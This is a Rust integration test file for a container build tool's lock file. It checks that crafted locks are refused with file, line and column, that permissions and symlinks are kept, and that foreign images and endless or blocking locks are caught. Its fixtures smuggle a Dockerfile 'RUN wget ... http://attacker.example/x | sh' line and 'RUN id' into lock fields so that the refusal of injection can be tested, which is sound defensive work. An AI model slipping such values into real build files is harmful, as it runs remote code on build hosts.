//! `cookbook.lock` is input like the cookbook (issue 20, items 2, 10, 13 and 15), against the
//! real engine, registry and git that `scripts/services.sh` starts:
//! - a crafted lock (a newline and a `RUN` in a registry pin's digest, a free string in an engine
//!   pin, a key that is no image reference, an entry that is no image) is refused with its
//!   location (file:line:column and JSON pointer) and exit 2 by `hash`, `context`, `verify` and
//!   `apply`, and `sync` refuses a revision carrying one and keeps the last good revision;
//! - the lock is written with the permissions a user expects (the umask's for a new one, the
//!   replaced file's otherwise), and a lock that is a symlink stays one;
//! - `base_image: "scratch"` applies (an engine build and an assembled image) and hashes offline;
//! - after a failed `apply --keep-going`, `hash` names the tags the run published.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde_json::{json, Value};

use crate::common;

use common::unique;

/// No engine: what `hash`, `context` and `verify` must not need.
const OFFLINE: &[(&str, &str)] = &[("DOCKER_HOST", "unix:///nonexistent/docker.sock")];

fn run(dir: &Path, args: &[&str], envs: &[(&str, &str)]) -> common::Run {
    let mut all = vec![("CI", "true")];
    all.extend_from_slice(envs);
    common::run_in_env(dir, args, &all)
}

/// `cookbook ARGS` in `dir` under `umask`: through `sh`, since a child's umask is its parent's.
fn run_with_umask(dir: &Path, umask: &str, args: &[&str]) -> common::Run {
    let mut all = vec!["-c", "umask \"$0\" && exec \"$@\"", umask, common::bin()];
    all.extend_from_slice(args);
    let out = Command::new("sh")
        .args(&all)
        .current_dir(dir)
        .env("CI", "true")
        .env_remove("COOKBOOK_FILE")
        .output()
        .unwrap();
    common::Run {
        args: all.iter().map(|a| a.to_string()).collect(),
        cwd: dir.to_path_buf(),
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        elapsed: std::time::Duration::ZERO,
    }
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn write_json(path: &Path, v: &Value) {
    write(path, &serde_json::to_string_pretty(v).unwrap());
}

fn read_json(path: &Path) -> Value {
    serde_json::from_slice(&fs::read(path).unwrap()).unwrap()
}

fn mode(path: &Path) -> u32 {
    fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

const BUSYBOX: &str = "cookbook-test/busybox:latest";

/// One engine-built container `api` on the busybox test image, publishing to `registry`.
fn api_book(dir: &Path, project: &str, registry: &str) {
    write(&dir.join("api/a.txt"), "a\n");
    write_json(
        &dir.join("cookbook.json"),
        &json!({
            "manifest_version": "1.0",
            "project": { "name": project },
            "applications": { "api": { "source": "api", "build_commands": ["test -f a.txt"] } },
            "containers": { "api": { "base_image": BUSYBOX, "applications": ["api"] } },
            "packaging": { "registry": registry }
        }),
    );
}

/// The 1-based line and column where `needle` starts in `text` (columns count characters).
fn position(text: &str, needle: &str) -> (usize, usize) {
    let at = text
        .find(needle)
        .unwrap_or_else(|| panic!("{needle:?} not in\n{text}"));
    let before = &text[..at];
    let line = 1 + before.matches('\n').count();
    let start = before.rfind('\n').map_or(0, |n| n + 1);
    (line, 1 + text[start..at].chars().count())
}

/// A hostile lock: its JSON, the JSON text its located problem starts at (a key or a value, as
/// written in the file), and the problem's JSON pointer as messages show it.
struct Hostile {
    what: &'static str,
    lock: Value,
    at: String,
    pointer: String,
}

fn hostile_locks(project: &str) -> Vec<Hostile> {
    let digest = format!("sha256:{}", "a".repeat(64));
    let lock = |bases: Value, containers: Value| {
        json!({
            "lock_version": 3,
            "hash_version": 2,
            "project": project,
            "bases": bases,
            "containers": containers,
        })
    };
    let pin_pointer = "/bases/cookbook-test~1busybox:latest/digest".to_owned();
    let injected = format!("{digest}\nRUN wget -qO- http://attacker.example/x | sh");
    let engine_text = "attacker.example/root:latest";
    let bad_key = format!("{BUSYBOX}\nRUN id");
    let bad_image = format!("127.0.0.1:5000/{project}/api:{}\nRUN id", "b".repeat(64));
    vec![
        Hostile {
            what: "a newline and a RUN line in a registry pin's digest",
            lock: lock(
                json!({ BUSYBOX: { "digest": injected, "source": "registry" } }),
                json!({}),
            ),
            at: serde_json::to_string(&injected).unwrap(),
            pointer: pin_pointer.clone(),
        },
        Hostile {
            what: "a free string in an engine pin",
            lock: lock(
                json!({ BUSYBOX: { "digest": engine_text, "source": "engine" } }),
                json!({}),
            ),
            at: serde_json::to_string(engine_text).unwrap(),
            pointer: pin_pointer,
        },
        Hostile {
            what: "a pin key that is no image reference",
            lock: lock(
                json!({ bad_key.clone(): { "digest": digest, "source": "registry" } }),
                json!({}),
            ),
            at: serde_json::to_string(&bad_key).unwrap(),
            pointer: "/bases/cookbook-test~1busybox:latest\\nRUN id".to_owned(),
        },
        Hostile {
            what: "an entry whose image is no image reference",
            lock: lock(
                json!({}),
                json!({ "api": {
                    "input_hash": "b".repeat(64),
                    "image": bad_image,
                    "tags": [],
                    "image_id": digest,
                } }),
            ),
            at: serde_json::to_string(&bad_image).unwrap(),
            pointer: "/containers/api/image".to_owned(),
        },
    ]
}

/// Issue 20, item 2: every command that reads the lock refuses a crafted one, saying where, and
/// nothing from it reaches a Dockerfile (exit 2 for each, issue 21).
#[test]
fn a_crafted_lock_is_refused_with_its_location_by_hash_context_verify_and_apply() {
    let Some(registry) = common::test_registry() else {
        return;
    };
    let project = unique("inject");
    let mut failures = Vec::new();
    for hostile in hostile_locks(&project) {
        let dir = tempfile::tempdir().unwrap();
        api_book(dir.path(), &project, &format!("{registry}/{project}"));
        let text = serde_json::to_string_pretty(&hostile.lock).unwrap() + "\n";
        write(&dir.path().join("cookbook.lock"), &text);
        let (line, column) = position(&text, &hostile.at);
        let located = format!(
            "cookbook.lock:{line}:{column}: not a valid lock file: {}: ",
            hostile.pointer
        );
        let tar = dir.path().join("api.tar");
        let tar_arg = tar.display().to_string();
        let runs = [
            run(dir.path(), &["hash"], OFFLINE),
            run(dir.path(), &["context", "api", "-o", &tar_arg], OFFLINE),
            run(dir.path(), &["verify"], OFFLINE),
            run(dir.path(), &["apply"], &[]),
            // Issue 21: every command of the build family agrees.
            run(dir.path(), &["apply", "--dry-run"], &[]),
            run(dir.path(), &["update"], &[]),
        ];
        for r in &runs {
            let ok = r.code == Some(2)
                && r.stderr.contains(&located)
                && !r.stderr.contains("panicked")
                && !r.stderr.contains("\nRUN");
            if !ok {
                failures.push(format!(
                    "{}: expected exit 2 and {located:?}\n{}",
                    hostile.what,
                    r.context()
                ));
            }
        }
        if tar.exists() {
            let bytes = fs::read(&tar).unwrap();
            let shown = String::from_utf8_lossy(&bytes);
            failures.push(format!(
                "{}: `context` wrote a build context{}",
                hostile.what,
                if shown.contains("RUN wget") {
                    " whose Dockerfile runs the injected RUN line"
                } else {
                    ""
                }
            ));
        }
        // The lock is left as it was: nothing rewrote it.
        if fs::read_to_string(dir.path().join("cookbook.lock")).unwrap() != text {
            failures.push(format!("{}: the lock was rewritten", hostile.what));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

fn git(dir: &Path, home: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(args)
        .env("HOME", home)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", home.join("gitconfig"))
        .env("GIT_AUTHOR_NAME", "Test")
        .env("GIT_AUTHOR_EMAIL", "test@example.invalid")
        .env("GIT_COMMITTER_NAME", "Test")
        .env("GIT_COMMITTER_EMAIL", "test@example.invalid")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Issue 20, item 2, through git: a revision whose lock is malformed is refused like one whose
/// cookbook is (its problems located in `cookbook.lock@<commit>`), and the site stays on the
/// last good revision, lock included.
#[test]
fn sync_refuses_a_revision_with_a_crafted_lock_and_keeps_the_last_good_one() {
    let tmp = tempfile::tempdir().unwrap();
    let (home, work, remote) = (
        tmp.path().join("home"),
        tmp.path().join("work"),
        tmp.path().join("remote.git"),
    );
    fs::create_dir_all(&home).unwrap();
    fs::create_dir_all(&work).unwrap();
    git(
        tmp.path(),
        &home,
        &["init", "-q", "--bare", "-b", "main", "remote.git"],
    );
    git(&work, &home, &["init", "-q", "-b", "main"]);
    let project = unique("syncinject");
    api_book(&work, &project, "127.0.0.1:5000/unused");
    // A good lock: an engine pin of the base, as `apply` writes one.
    let good_lock = json!({
        "lock_version": 3, "hash_version": 2, "project": project,
        "bases": { BUSYBOX: { "digest": format!("sha256:{}", "c".repeat(64)), "source": "engine" } },
        "containers": {}
    });
    let good_text = serde_json::to_string_pretty(&good_lock).unwrap() + "\n";
    write(&work.join("cookbook.lock"), &good_text);
    git(&work, &home, &["add", "-A"]);
    git(&work, &home, &["commit", "-qm", "good"]);
    let good = git(&work, &home, &["rev-parse", "HEAD"]);
    let url = format!("file://{}", remote.display());
    git(&work, &home, &["push", "-q", &url, "main"]);
    let state = tmp.path().join("state");
    let state_arg = state.display().to_string();
    let sync = || {
        run(
            tmp.path(),
            &["sync", "--remote", &url, "--state", &state_arg],
            &[("HOME", home.to_str().unwrap())],
        )
    };
    sync().assert_code(0);
    assert_eq!(
        fs::read_to_string(state.join("current/cookbook.lock")).unwrap(),
        good_text
    );

    for hostile in hostile_locks(&project) {
        let text = serde_json::to_string_pretty(&hostile.lock).unwrap() + "\n";
        write(&work.join("cookbook.lock"), &text);
        git(&work, &home, &["commit", "-qam", hostile.what]);
        let bad = git(&work, &home, &["rev-parse", "HEAD"]);
        git(&work, &home, &["push", "-q", &url, "main"]);
        let r = sync();
        r.assert_code(1);
        let (line, column) = position(&text, &hostile.at);
        let located = format!("cookbook.lock@{}:{line}:{column}: error[lock/", &bad[..12]);
        assert!(
            r.stderr.contains(&located) && r.stderr.contains(&hostile.pointer),
            "{}: expected {located:?} and {:?}\n{}",
            hostile.what,
            hostile.pointer,
            r.context()
        );
        assert!(
            r.stderr.contains(&format!("keeping {}", &good[..12])),
            "{}",
            r.context()
        );
        // The site still serves the good revision, and its lock.
        assert_eq!(
            fs::read_to_string(state.join("current/cookbook.lock")).unwrap(),
            good_text,
            "{}",
            hostile.what
        );
        let status = run(
            tmp.path(),
            &["sync", "status", "--state", &state_arg, "--format", "json"],
            &[],
        );
        status.assert_code(0);
        let s: Value = serde_json::from_str(&status.stdout).unwrap();
        assert_eq!(s["current"]["commit"], good.as_str());
        assert_eq!(s["last_attempt"]["commit"], bad.as_str());
        assert_eq!(s["last_attempt"]["outcome"], "invalid");
    }
}

/// Issue 20, item 10: a new lock gets the umask's permissions (0666 & !umask, as any file the
/// user creates), a rewritten one keeps its own, and a lock that is a symlink stays a symlink
/// whose target is updated. `cookbook update` writes the lock (it pins from the engine: the
/// busybox test image was loaded there, never pulled).
#[test]
fn the_lock_has_the_permissions_a_user_expects_and_a_symlinked_lock_stays_a_symlink() {
    if common::test_registry().is_none() {
        return;
    }
    let project = unique("perms");
    let book = |dir: &Path| api_book(dir, &project, "127.0.0.1:5000/unused");
    let pinned = |lock: &Path| read_json(lock)["bases"][BUSYBOX]["digest"].clone();

    for (umask, expected) in [("022", 0o644), ("027", 0o640)] {
        let dir = tempfile::tempdir().unwrap();
        book(dir.path());
        run_with_umask(dir.path(), umask, &["update"]).assert_code(0);
        let lock = dir.path().join("cookbook.lock");
        assert_eq!(
            mode(&lock),
            expected,
            "a new lock under umask {umask} (the cookbook beside it is {:o})",
            mode(&dir.path().join("cookbook.json"))
        );
    }

    // A lock whose pin is made stale is rewritten by `update`, and keeps its mode 0664 under a
    // umask that would have given 0600.
    let dir = tempfile::tempdir().unwrap();
    book(dir.path());
    run(dir.path(), &["update"], &[]).assert_code(0);
    let lock = dir.path().join("cookbook.lock");
    let fresh = pinned(&lock);
    let stale = |path: &Path| {
        let mut v = read_json(path);
        v["bases"][BUSYBOX]["digest"] = json!(format!("sha256:{}", "d".repeat(64)));
        write_json(path, &v);
    };
    stale(&lock);
    fs::set_permissions(&lock, fs::Permissions::from_mode(0o664)).unwrap();
    run_with_umask(dir.path(), "077", &["update"]).assert_code(0);
    assert_eq!(pinned(&lock), fresh, "update rewrote the pin");
    assert_eq!(mode(&lock), 0o664, "a rewritten lock keeps its mode");

    // A symlinked lock (relative, into another directory) stays a symlink to the same target,
    // and the target holds the new lock; no temporary file is left in either directory.
    let shared = dir.path().join("shared");
    fs::create_dir_all(&shared).unwrap();
    fs::rename(&lock, shared.join("pins.lock")).unwrap();
    std::os::unix::fs::symlink("shared/pins.lock", &lock).unwrap();
    stale(&shared.join("pins.lock"));
    fs::set_permissions(shared.join("pins.lock"), fs::Permissions::from_mode(0o640)).unwrap();
    run(dir.path(), &["update"], &[]).assert_code(0);
    let meta = fs::symlink_metadata(&lock).unwrap();
    assert!(
        meta.file_type().is_symlink(),
        "the lock is no longer a symlink"
    );
    assert_eq!(fs::read_link(&lock).unwrap(), Path::new("shared/pins.lock"));
    assert_eq!(pinned(&shared.join("pins.lock")), fresh);
    assert_eq!(mode(&shared.join("pins.lock")), 0o640);
    for d in [dir.path(), shared.as_path()] {
        let names: Vec<String> = fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".cookbook.lock"))
            .collect();
        assert!(names.is_empty(), "left in {}: {names:?}", d.display());
    }
}

/// The manifest the test registry has under `repo:tag` (`None`: no such tag).
fn manifest(registry: &str, repo: &str, tag: &str) -> Option<Value> {
    let url = format!("http://{registry}/v2/{repo}/manifests/{tag}");
    common::block_on(async {
        let r = reqwest::Client::new()
            .get(&url)
            .header(
                "Accept",
                "application/vnd.oci.image.manifest.v1+json, \
                 application/vnd.docker.distribution.manifest.v2+json",
            )
            .send()
            .await
            .unwrap();
        match r.status().as_u16() {
            200 => Some(r.json().await.unwrap()),
            404 => None,
            other => panic!("GET {url}: {other}"),
        }
    })
}

/// `hash`'s lines as container → input hash.
fn hashes(r: &common::Run) -> std::collections::BTreeMap<String, String> {
    r.stdout
        .lines()
        .map(|l| {
            let (hash, name) = l.split_once("  ").unwrap();
            (name.to_owned(), hash.to_owned())
        })
        .collect()
}

/// Issue 20, item 13: `scratch` is no image in any registry: never pinned, hashed as written,
/// `FROM scratch` when the engine builds, no base layers when assembled.
#[test]
fn scratch_applies_engine_built_and_assembled_and_hashes_offline() {
    let Some(registry) = common::test_registry() else {
        return;
    };
    let project = unique("scratch");
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("files/hello.txt"), "hello from scratch\n");
    write_json(
        &dir.path().join("cookbook.json"),
        &json!({
            "manifest_version": "1.0",
            "project": { "name": project },
            "applications": { "files": { "source": "files" } },
            "containers": {
                // Nothing to run: assembled, its one layer on no base.
                "assembled": { "base_image": "scratch", "applications": ["files"] },
                // A workdir with a variable only the engine expands: built by the engine.
                "built": {
                    "base_image": "scratch", "applications": ["files"],
                    "workdir": "/srv${SUFFIX}", "build_args": { "SUFFIX": "/x" }
                }
            },
            "packaging": { "registry": format!("{registry}/{project}") }
        }),
    );
    let before = run(dir.path(), &["hash"], OFFLINE);
    before.assert_code(0);
    assert_eq!(
        before.stderr,
        "",
        "scratch is never 'not pinned yet'\n{}",
        before.context()
    );
    let explain = run(dir.path(), &["explain", "built"], OFFLINE);
    explain.assert_code(0);
    let doc: Value = serde_json::from_str(&explain.stdout).unwrap();
    assert_eq!(
        doc["recipe"]["base_image"],
        json!({"image": "scratch", "pinned": null})
    );
    assert!(
        doc["recipe"]["dockerfile_text"]
            .as_str()
            .unwrap()
            .lines()
            .any(|l| l == "FROM scratch"),
        "{}",
        explain.stdout
    );

    let apply = run(dir.path(), &["apply", "--format", "json"], &[]);
    apply.assert_code(0);
    let report: Value = serde_json::from_str(&apply.stdout).unwrap();
    assert_eq!(report["containers"]["assembled"]["status"], "built");
    assert_eq!(report["containers"]["built"]["status"], "built");
    let lock = read_json(&dir.path().join("cookbook.lock"));
    assert!(
        lock.get("bases").is_none(),
        "scratch is not pinned: {lock:#}"
    );

    // The hashes are the published ones, offline, before and after the apply.
    let after = run(dir.path(), &["hash"], OFFLINE);
    after.assert_code(0);
    assert_eq!(hashes(&after), hashes(&before));
    for (name, hash) in hashes(&after) {
        assert_eq!(lock["containers"][&name]["input_hash"], hash.as_str());
        let m = manifest(&registry, &format!("{project}/{name}"), &hash)
            .unwrap_or_else(|| panic!("{name}:{hash} is not in the registry"));
        let layers = m["layers"].as_array().unwrap().len();
        if name == "assembled" {
            assert_eq!(layers, 1, "the assembled image is its one layer: {m:#}");
        } else {
            assert!(layers >= 1, "{m:#}");
        }
    }
    run(dir.path(), &["verify", "--registry"], &[]).assert_code(0);
}

/// Issue 20, item 15: pins are recorded before the first build, so after a failed keep-going
/// run `hash` prints the hashes the published content tags carry.
#[test]
fn hash_after_a_failed_keep_going_apply_names_the_published_tags() {
    let Some(registry) = common::test_registry() else {
        return;
    };
    let project = unique("keepgoing");
    let dir = tempfile::tempdir().unwrap();
    write(&dir.path().join("good/g.txt"), "g\n");
    write(&dir.path().join("bad/b.txt"), "b\n");
    write_json(
        &dir.path().join("cookbook.json"),
        &json!({
            "manifest_version": "1.0",
            "project": { "name": project },
            "applications": {
                "good": { "source": "good", "build_commands": ["test -f g.txt"] },
                "bad": { "source": "bad", "build_commands": ["exit 7"] }
            },
            "containers": {
                "good": { "base_image": BUSYBOX, "applications": ["good"] },
                "bad": { "base_image": BUSYBOX, "applications": ["bad"] }
            },
            "packaging": { "registry": format!("{registry}/{project}") }
        }),
    );
    let apply = run(
        dir.path(),
        &["apply", "--keep-going", "--format", "json"],
        &[],
    );
    apply.assert_code(1);
    let report: Value = serde_json::from_str(&apply.stdout).unwrap();
    assert_eq!(
        report["containers"]["good"]["status"],
        "built",
        "{}",
        apply.context()
    );
    assert_eq!(report["containers"]["bad"]["status"], "failed");
    let published = report["containers"]["good"]["input_hash"].as_str().unwrap();

    let hash = run(dir.path(), &["hash", "good"], OFFLINE);
    hash.assert_code(0);
    assert_eq!(
        hashes(&hash)["good"],
        published,
        "hash after the failed run\n{}",
        hash.context()
    );
    assert!(
        manifest(&registry, &format!("{project}/good"), published).is_some(),
        "the tag `hash` names is published"
    );
    let lock = read_json(&dir.path().join("cookbook.lock"));
    assert_eq!(lock["bases"][BUSYBOX]["source"], "engine", "{lock:#}");
}

/// A well-formed lock can still be edited to run someone else's image: an entry whose image is
/// outside the repository the cookbook gives its container. `apply` never writes one; `verify`
/// names it (and `deploy` refuses it, exit 2: `deploy::desired`'s tests).
#[test]
fn verify_names_a_lock_entry_outside_its_containers_repository() {
    let dir = tempfile::tempdir().unwrap();
    let project = unique("foreign");
    api_book(dir.path(), &project, "127.0.0.1:5000/team");
    let hashed = run(dir.path(), &["hash"], OFFLINE);
    hashed.assert_code(0);
    let hash = hashes(&hashed)["api"].clone();
    let digest = format!("sha256:{}", "b".repeat(64));
    let entry = |image: String| {
        json!({
            "lock_version": 3, "hash_version": cookbook::hash::HASH_VERSION, "project": project,
            "containers": { "api": {
                "input_hash": hash, "image": image, "tags": [], "digest": digest
            } }
        })
    };
    // The cookbook's own repository: the hashes agree, nothing to say.
    write_json(
        &dir.path().join("cookbook.lock"),
        &entry(format!("127.0.0.1:5000/team/api:{hash}")),
    );
    run(dir.path(), &["verify"], OFFLINE).assert_code(0);
    // The same tag and digest under another registry's repository, one that listens here: with
    // `--registry` too, it is named and never asked (a hostile lock chooses no host).
    let elsewhere = std::net::TcpListener::bind("127.0.0.9:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let foreign = format!("{}/team/api:{hash}", elsewhere.local_addr().unwrap());
    write_json(&dir.path().join("cookbook.lock"), &entry(foreign.clone()));
    for args in [
        &["verify", "--format", "json"][..],
        &["verify", "--registry", "--format", "json"],
    ] {
        let run = run(dir.path(), args, OFFLINE);
        run.assert_code(1);
        let doc: Value = serde_json::from_str(&run.stdout).unwrap();
        assert_eq!(
            doc["containers"]["api"]["reasons"],
            json!([{
                "kind": "foreign_image",
                "image": foreign,
                "expected": "127.0.0.1:5000/team/api",
                "message": format!("lock entry names image {foreign}, outside the container's repository 127.0.0.1:5000/team/api"),
            }]),
            "{}",
            run.context()
        );
    }
    assert!(
        elsewhere.accept().is_err(),
        "verify connected to the host the lock named"
    );
}

/// A lock that arrives with a clone as a link to `/dev/zero`, or as a FIFO, is refused at once
/// (exit 2, naming it), never read until memory runs out or waited on.
#[test]
fn a_lock_that_never_ends_or_blocks_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    api_book(dir.path(), &unique("endless"), "127.0.0.1:5000/team");
    let lock = dir.path().join("cookbook.lock");
    std::os::unix::fs::symlink("/dev/zero", &lock).unwrap();
    for args in [
        &["hash"][..],
        &["verify"],
        &["context", "api", "-o", "api.tar"],
    ] {
        let run = run(dir.path(), args, OFFLINE);
        run.assert_code(2);
        assert!(
            run.stderr
                .contains("cookbook.lock cannot be used as a lock: not a regular file"),
            "{}",
            run.context()
        );
        assert!(
            run.elapsed < std::time::Duration::from_secs(10),
            "{:?}",
            run.elapsed
        );
    }
    fs::remove_file(&lock).unwrap();
    let made = Command::new("mkfifo").arg(&lock).status().unwrap();
    assert!(made.success());
    let run = run(dir.path(), &["hash"], OFFLINE);
    run.assert_code(2);
    assert!(
        run.elapsed < std::time::Duration::from_secs(10),
        "{:?}",
        run.elapsed
    );
}

/// A lock another project wrote is refused, never silently replaced: a cookbook that names no
/// project, cloned into a directory of another name, meets its own lock that way — re-pinning
/// its bases from their tags would quietly move them.
#[test]
fn a_lock_of_another_project_is_refused_not_replaced() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("shop-copy");
    write(&dir.join("web/index.html"), "hi\n");
    write_json(
        &dir.join("cookbook.json"),
        &json!({
            "manifest_version": "1.0",
            "applications": { "web": { "source": "web" } },
            "containers": { "web": { "base_image": "scratch", "applications": ["web"] } }
        }),
    );
    let lock = json!({ "lock_version": 3, "hash_version": 2, "project": "shop", "containers": {} });
    write_json(&dir.join("cookbook.lock"), &lock);
    let before = fs::read(dir.join("cookbook.lock")).unwrap();
    for args in [&["hash"][..], &["apply", "--no-push"]] {
        let run = run(&dir, args, &[]);
        run.assert_code(2);
        assert!(
            run.stderr.contains("cookbook.lock was written for project `shop`, not `shop-copy`: set `project.name` to `shop`, or remove the lock to start a new one"),
            "{}",
            run.context()
        );
    }
    assert_eq!(fs::read(dir.join("cookbook.lock")).unwrap(), before);
}
